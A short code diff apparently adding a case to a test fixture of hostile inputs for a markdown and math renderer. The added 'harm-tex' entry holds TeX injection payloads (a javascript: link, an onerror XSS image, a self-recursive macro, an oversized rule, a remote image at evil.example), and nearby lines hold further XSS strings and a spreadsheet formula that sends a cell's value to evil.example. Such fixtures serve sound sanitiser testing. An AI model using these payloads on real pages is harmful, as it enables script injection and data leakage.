@@ -32,6 +32,8 @@ TEXTS = {
     "harm-formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
     "harm-nested": f"{'> ' * 200}deep {'[' * 500} {'*' * 1000} {'- ' * 200}",
     "harm-code": '```<img src=x onerror=alert(10)>\n<script>\n\u202e\n```\n```js" onclick="alert(12)\nx\n```',
+    "harm-tex": r"$\href{javascript:window.harmed=1}{x}$ $\htmlStyle{color:red}{y}$ $\includegraphics{http://evil.example/t}$"
+    r" $$\def\a{\a\a}\a$$ \(\htmlData{x=y}{<img src=x onerror=alert(17)>}\) $\rule{999em}{999em}$",
     "harm-table": f"|{'a|' * 60}\n|{'-|' * 60}\n|{'<img src=x onerror=alert(13)>|' * 60}",
     "harm-long": "x" * 1_000_000,
 }
